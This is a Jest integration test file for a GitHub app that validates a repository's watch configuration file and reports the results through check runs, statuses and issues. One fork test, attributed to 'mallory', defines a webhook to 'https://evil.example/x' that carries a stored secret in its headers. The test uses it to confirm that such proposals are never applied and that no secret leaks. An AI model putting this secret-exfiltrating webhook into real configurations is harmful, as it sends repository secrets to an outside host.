import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { configOf, quiet, track, webhookWatch } from '../support/story.ts';
import { adminToken, startTestApp, type ApiObject, type TestApp } from '../support/test-app.ts';

const file = '.github/repowatch.yml';
const canary = 'canary-of-a-secret-0815';
const broken = 'version: 1\nwatches:\n  deploy:\n    on: push\n    stepz: []\n  other:\n    on: psuh\n    steps: []\n';

let world: TestApp;
let app: Awaited<ReturnType<typeof track>>;

const github = () => world.github!;
const good = (watches: Record<string, object> = {}) =>
  configOf({ main: webhookWatch(`${world.sink.url}/main`, { on: { push: { branches: ['main'] } } }), ...watches });
const commit = (branch: string, content: string, repo = app.fullName) => github().commitFile({ repo, branch, path: file, content });
const runsOf = async (sha: string, repo = app.fullName) => (await github().checkRuns(repo)).filter((run) => run['head_sha'] === sha);
const branchOff = async (branch: string, repo = app.fullName) =>
  github().updateRef({ repo, ref: `refs/heads/${branch}`, sha: (await github().refs(repo))['refs/heads/main']! });

/** The validation of a commit once it has come to its end. */
async function validated(sha: string, repo = app.fullName): Promise<ApiObject> {
  const ended = await world.eventually(`the configuration at ${sha.slice(0, 7)} validated`, async () => {
    const [found] = await world.list(`/api/repos/${repo}/config/validations?sha=${sha}`);
    return found && found['status'] !== 'waiting' ? found : undefined;
  });
  return await world.api(`/api/repos/${repo}/config/validations/${String(ended['id'])}`);
}

async function grant(permissions: Record<string, string>): Promise<void> {
  await github().editApp({ permissions: { metadata: 'read', contents: 'read', pull_requests: 'read', ...permissions } });
  await github().acceptPermissions('acme');
  await quiet(world);
}

beforeAll(async () => {
  world = await startTestApp({ github: true, settings: { CONFIG_ISSUE_AFTER: '1s', PUBLIC_URL: 'https://watch.example.com' } });
  await github().editApp({ events: ['push', 'create', 'delete', 'repository', 'pull_request', 'issues'] });
  await github().createAccount('mallory');
  app = await track(world, 'app', { [file]: good() });
  await world.api('/api/secrets/KNOWN', { method: 'PUT', body: { value: canary, scope: 'repository', repository: app.fullName } });
}, 60_000);

afterAll(async () => {
  await world[Symbol.asyncDispose]();
});

describe('a proposed configuration', () => {
  test('that is broken fails its check at the lines, and mended succeeds on the new commit; nothing of it comes into force', async () => {
    await branchOff('break');
    const bad = await commit('break', broken);
    const validation = await validated(bad);
    expect(validation).toMatchObject({ status: 'done', conclusion: 'failure', channel: 'check', ref: 'break', from_fork: false });
    const [run, ...others] = await runsOf(bad);
    expect(others).toEqual([]);
    expect(run).toMatchObject({
      name: 'repowatch/config',
      status: 'completed',
      conclusion: 'failure',
      external_id: validation['id'],
      details_url: `https://watch.example.com/validations/${String(validation['id'])}`,
    });
    const annotations = run!['annotations'] as ApiObject[];
    expect(
      annotations.map(({ path, start_line: line, annotation_level: level }) => `${String(level)} ${String(path)}:${String(line)}`),
    ).toEqual((validation['problems'] as ApiObject[]).map(({ line }) => `failure ${file}:${String(line)}`));
    expect(annotations).toContainEqual(
      expect.objectContaining({ start_line: 5, start_column: 5, end_column: 5, title: 'config_key_unknown' }),
    );
    const mended = await commit('break', good());
    // It is what the default branch has: that is no news, but the branch was named, so it is told.
    expect(await validated(mended)).toMatchObject({ conclusion: 'success' });
    expect(await runsOf(mended)).toEqual([expect.objectContaining({ conclusion: 'success' })]);
    // A forced push names no files: the one that is there again tells that nothing is proposed.
    await github().updateRef({ repo: app.fullName, ref: 'refs/heads/break', sha: app.head });
    expect(await validated(app.head)).toMatchObject({ status: 'unchanged', conclusion: null });
    expect(await runsOf(app.head)).toEqual([]);
    expect(await world.api(`/api/repos/${app.fullName}/config`)).toMatchObject({ status: 'ok' });
  });

  test('is read for every push that touches it, and for no other', async () => {
    await branchOff('quiet');
    const sha = await github().commitFile({ repo: app.fullName, branch: 'quiet', path: 'src/a.ts', content: 'a' });
    await quiet(world);
    expect(await world.list(`/api/repos/${app.fullName}/config/validations?sha=${sha}`)).toEqual([]);
    const onMain = await commit('main', good({ second: webhookWatch(`${world.sink.url}/second`, { on: 'tag' }) }));
    expect(await validated(onMain)).toMatchObject({ conclusion: 'success', default_branch: true, preview: null });
  });

  test('with more remarks than GitHub takes at once gets them all, in batches', async () => {
    await branchOff('many');
    const watches = Array.from(
      { length: 70 },
      (_, index) =>
        `  w${index}:\n    on: push\n    stepz${index}: 1\n    steps: [{ uses: webhook, with: { url: "https://a.example" } }]\n`,
    );
    const sha = await commit('many', `version: 1\nwatches:\n${watches.join('')}`);
    await validated(sha);
    const [run, ...others] = await runsOf(sha);
    expect(others).toEqual([]);
    const lines = (run!['annotations'] as ApiObject[]).map(({ start_line: line }) => line);
    expect(lines).toEqual(Array.from({ length: 70 }, (_, index) => 5 + index * 4));
  });

  test('whose answer is lost is told once, and so is one that is asked for again', async () => {
    await branchOff('lost');
    await github().setFailure({ method: 'POST', path: '/check-runs', status: 500, disconnect: true, after: true });
    const sha = await commit('lost', broken);
    const validation = await validated(sha);
    const [run, ...others] = await runsOf(sha);
    expect(others).toEqual([]);
    const before = String(run!['completed_at']);
    const patches = (await github().apiCalls({ method: 'PATCH', path: '/check-runs/' })).length;
    await github().rerequestCheckRun({ repo: app.fullName, id: run!['id'] as number });
    await world.eventually('told again', async () => (await github().apiCalls({ method: 'PATCH', path: '/check-runs/' })).length > patches);
    expect(await validated(sha)).toMatchObject({ id: validation['id'], conclusion: 'failure' });
    const again = await runsOf(sha);
    expect(again).toHaveLength(1);
    expect(again[0]!['annotations']).toEqual(run!['annotations']);
    expect(String(again[0]!['completed_at']) >= before).toBe(true);
    const echoed = await github().announceEvent({
      repo: app.fullName,
      event: 'check_run',
      payload: { action: 'completed', check_run: run! },
    });
    expect(await world.settled(echoed!)).toMatchObject({ status: 'ignored', code: 'nothing_to_tell' });
    await github().rerequestCheckSuite({ repo: app.fullName, sha, branch: 'lost' });
    await world.eventually(
      'the suite told again',
      async () => (await github().apiCalls({ method: 'PATCH', path: '/check-runs/' })).length > patches + 1,
    );
    await validated(sha);
    expect(await runsOf(sha)).toHaveLength(1);
  });

  test('says on a pull request what it would change and what it would have done, and sends nothing', async () => {
    await branchOff('preview');
    await commit(
      'preview',
      configOf({
        watch_all: {
          ...webhookWatch(
            `${world.sink.url}/proposed`,
            { on: { push: { branches: ['**'] } } },
            { secret: '${{ secrets.KNOWN }}', headers: { a: '${{ secrets.UNKNOWN_ONE }}' } },
          ),
          name: 'Ask @acme/owners <b>',
        },
      }),
    );
    const { number, sha } = await github().openPullRequest({ repo: app.fullName, branch: 'preview' });
    const validation = await world.eventually('the pull request validated', async () => {
      const found = await validated(sha);
      return found['pull_request'] === number ? found : undefined;
    });
    const changes = (validation['preview'] as { changes: number }).changes;
    expect(changes).toBeGreaterThan(3);
    expect(validation['preview']).toMatchObject({
      watches: [
        { id: 'watch_all', change: 'added', runs: expect.any(Number), examples: expect.any(Array) },
        { id: 'main', change: 'removed', runs: 0 },
        { id: 'second', change: 'removed', runs: 0 },
      ],
    });
    expect((validation['preview'] as { runs: number }).runs).toBeGreaterThan(0);
    expect(validation['problems']).toEqual([
      expect.objectContaining({ severity: 'warning', code: 'secret_not_found', line: expect.any(Number) }),
    ]);
    const run = (await runsOf(sha))[0]!;
    const { summary } = run['output'] as { summary: string };
    expect(summary).toContain('Watches: 1 added, 0 changed, 2 removed');
    expect(summary).toContain(`on the last ${changes} changes, here`);
    expect(summary).not.toMatch(/@acme|<b>/);
    await quiet(world);
    expect(world.sink.requests.filter(({ path }) => path === '/proposed')).toEqual([]);
    const login = await fetch(`${world.url}/login`, {
      method: 'POST',
      redirect: 'manual',
      body: new URLSearchParams({ token: adminToken }),
    });
    const cookie = login.headers.get('set-cookie')!.split(';', 1)[0]!;
    const page = await fetch(`${world.url}/validations/${String(validation['id'])}`, { headers: { cookie } });
    const text = await page.text();
    expect([page.status, /New<\/span>[^]*?watch_all/.test(text), text.includes('owners <b>')]).toEqual([200, true, false]);
    expect((await fetch(`${world.url}/validations/${String(validation['id'])}`, { redirect: 'manual' })).status).toBe(303);
  });

  test('of a fork is read by its commit and judged by its text alone; pushes that follow each other leave the newest', async () => {
    const proposal = configOf({
      stolen: webhookWatch('https://evil.example/x', {}, { headers: { a: '${{ secrets.KNOWN }} ${{ secrets.NOPE }}' } }),
    });
    const { number, sha } = await github().openPullRequest({
      repo: app.fullName,
      branch: 'evil',
      fork: 'mallory',
      files: { [file]: proposal },
    });
    expect(await validated(sha)).toMatchObject({
      conclusion: 'success',
      from_fork: true,
      pull_request: number,
      preview: null,
      problems: [],
    });
    const run = (await runsOf(sha))[0]!;
    expect(JSON.stringify(run['output'])).toContain('comes from a fork');
    expect(JSON.stringify(run['output'])).not.toMatch(/would have run|last \d+ changes|127\.0\.0\.1.*blob/);
    const bad = await github().pushToPullRequest({ repo: app.fullName, number, files: { [file]: broken } });
    expect(await validated(bad.sha)).toMatchObject({ conclusion: 'failure', from_fork: true });
    expect(await world.api(`/api/repos/${app.fullName}/config`)).toMatchObject({ status: 'ok' });
    expect((await world.api<{ watches: ApiObject[] }>(`/api/repos/${app.fullName}/config`)).watches.map(({ key }) => key)).not.toContain(
      'stolen',
    );
    expect(world.sink.requests.filter(({ path }) => path.includes('evil'))).toEqual([]);
  });

  test('that waits gives way to a newer one of its branch', async () => {
    await branchOff('hot');
    await github().setFailure({ path: '/contents/.github/repowatch.yml', status: 502, times: 1 });
    const first = await commit('hot', broken);
    await world.eventually(
      'the first waits',
      async () => (await world.list(`/api/repos/${app.fullName}/config/validations?sha=${first}`))[0]?.['code'] !== null,
    );
    const second = await commit('hot', good({ third: webhookWatch(`${world.sink.url}/third`) }));
    expect(await validated(second)).toMatchObject({ status: 'done', conclusion: 'success' });
    expect(await validated(first)).toMatchObject({ status: 'superseded', conclusion: null });
    expect(await runsOf(first)).toEqual([]);
  });
});

describe('without check runs', () => {
  test('a status tells it, and without either only RepoWatch does', async () => {
    await grant({ statuses: 'write' });
    await branchOff('status');
    const bad = await commit('status', broken);
    expect(await validated(bad)).toMatchObject({ channel: 'status', conclusion: 'failure' });
    const [status, ...others] = (await github().statuses(app.fullName)).filter(({ sha }) => sha === bad);
    expect(others).toEqual([]);
    expect(status).toMatchObject({ context: 'repowatch/config', state: 'failure', target_url: expect.stringContaining('/validations/') });
    expect(String(status!['description']).length).toBeLessThanOrEqual(140);
    await grant({});
    const silent = await commit('status', `${broken}# again\n`);
    expect(await validated(silent)).toMatchObject({ channel: 'none', conclusion: 'failure', code: 'github_forbidden' });
    expect((await github().statuses(app.fullName)).filter(({ sha }) => sha === silent)).toEqual([]);
  });
});

describe('the default branch', () => {
  test('that stays broken gets one issue, which says what is wrong now and is closed when it is mended', async () => {
    await grant({ checks: 'write', issues: 'write' });
    await github().setFailure({ method: 'POST', path: '/issues', status: 500, disconnect: true, after: true });
    await commit('main', broken);
    const issue = await world.eventually('an issue', async () => (await github().issues(app.fullName))[0]);
    expect(issue).toMatchObject({
      state: 'open',
      title: expect.stringContaining(file),
      body: expect.stringContaining('`.github/repowatch.yml:5:5`'),
    });
    await commit('main', 'version: 1\nwatches:\n  a:\n    on: psuh\n    steps: []\n');
    await world.eventually(
      'the issue says the other',
      async () => !String((await github().issues(app.fullName))[0]!['body']).includes(':5:5'),
    );
    await commit('main', good());
    await world.eventually('the issue closed', async () => (await github().issues(app.fullName))[0]!['state'] === 'closed');
    await world.eventually('the alarm forgotten', async () => {
      const { rows } = await world.database.db.raw<{ rows: unknown[] }>('select 1 from config_alarms');
      return rows.length === 0;
    });
    expect(await github().issues(app.fullName)).toEqual([expect.objectContaining({ comments: 1 })]);
  });
});

test('no secret was told anywhere, and writes were a second apart', async () => {
  const calls = await github().apiCalls();
  expect(calls.filter(({ body }) => body.includes(canary))).toEqual([]);
  expect(JSON.stringify(await github().checkRuns(app.fullName))).not.toContain(canary);
  const writes = calls.filter(({ method, path }) => method !== 'GET' && path.startsWith('/repos/')).map(({ at }) => at.getTime());
  const gaps = writes.slice(1).map((time, index) => time - writes[index]!);
  // They leave a second apart; when each arrives depends on the machine. Without the line they come within milliseconds.
  expect(Math.min(...gaps)).toBeGreaterThan(500);
});
